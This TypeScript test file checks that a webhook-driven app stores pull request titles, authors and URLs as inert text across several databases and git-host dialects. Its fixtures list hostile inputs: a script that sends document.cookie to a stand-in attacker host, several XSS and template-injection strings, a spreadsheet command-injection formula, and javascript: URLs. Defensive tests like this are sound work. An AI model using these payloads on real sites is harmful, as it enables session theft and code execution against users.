// Titles and authors of pull requests that want to be more than text: they are stored and answered as text, by every git host.
import { describe, expect, test } from 'vitest'
import { databases } from '../../../test/databases.ts'
import { deliverAs, dialects } from '../../../test/git-host-dialects.ts'
import { buildHookedProject, stateOf } from '../../../test/git-host-events.ts'
import { builtBeforeAll } from '../../../test/stage/built-before.ts'
import { byTurns } from '../../../test/stage/by-turns.ts'
import { stageApp } from '../../../test/stage/stage-app.ts'

const shownAsSent = [
  "<script>fetch('//attacker.test/'+document.cookie)</script>",
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '${7*7}',
  '</title><script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '<!--<img src=--><img src=x onerror=alert(1)//>',
  '{{7*7}}',
  '=cmd|"/c calc"!A1',
]

const shownOtherwise: readonly (readonly [string, string])[] = [
  ['\u202e\u2066evil', 'evil'],
  ['\0x', 'x'],
  ['a\u2028b', 'ab'],
  ['\u001b[2J\u001b]0;owned\u0007x', 'x'],
  ['two\r\nlines: of a header', 'two lines: of a header'],
  ['half \ud800 a character', 'half a character'],
  [`${'\u009d'.repeat(5000)}x`, 'x'],
  ['🚀'.repeat(300), '🚀'.repeat(200)],
]

describe.each(databases)('hostile words on $name', (source) => {
  const app = stageApp(source)

  describe.each(dialects)('of $name', (dialect) => {
    const { repository_host } = dialect
    const overrides = { repository_host, environment_limit: 1000 }
    const project = builtBeforeAll(() => buildHookedProject(app.ctx, overrides))
    let number = 0

    const open = async (event: Parameters<typeof dialect.pullRequest>[0]) => {
      number += 1
      const delivery = dialect.pullRequest({ ...event, number })
      const { body } = await deliverAs(dialect, { app, hookId: project.hook_id }, delivery)
      expect(body).toEqual({ verdict: 'accepted', reason: null })
      const { rows } = await stateOf(app.ctx, project.id)
      const { id } = rows.environments.find(({ name }) => name === `pr-${number}`) ?? { id: 0 }
      return app.call('GET', `/api/environments/${id}`, { as: project.owner })
    }

    const words = [...shownAsSent.map((text) => [text, text] as const), ...shownOtherwise]
    // Each on one of the databases, and on the other in the next dialect: both meet all of them.
    test.each(byTurns(source, words, dialects.indexOf(dialect)))('%.60j is text', async (sent, shown) => {
      const { body, headers } = await open({ title: sent, author: sent })
      expect(body.pull_request).toMatchObject({ title: shown, author: shown })
      expect(headers).toMatchObject({
        'content-type': 'application/json; charset=utf-8',
        'x-content-type-options': 'nosniff',
      })
    })

    test.each([
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      '//evil.example',
      ' ',
      'x'.repeat(3000),
    ])('%.40j leads nowhere', async (url) => {
      expect((await open({ url })).body.pull_request.url).toBeNull()
    })

    test('what breaks out of an address is written as one', async () => {
      const { body } = await open({ url: 'https://git.example.com/"><script>alert(1)</script>\n' })
      expect(body.pull_request.url).toBe('https://git.example.com/%22%3E%3Cscript%3Ealert(1)%3C/script%3E')
    })
  })
})
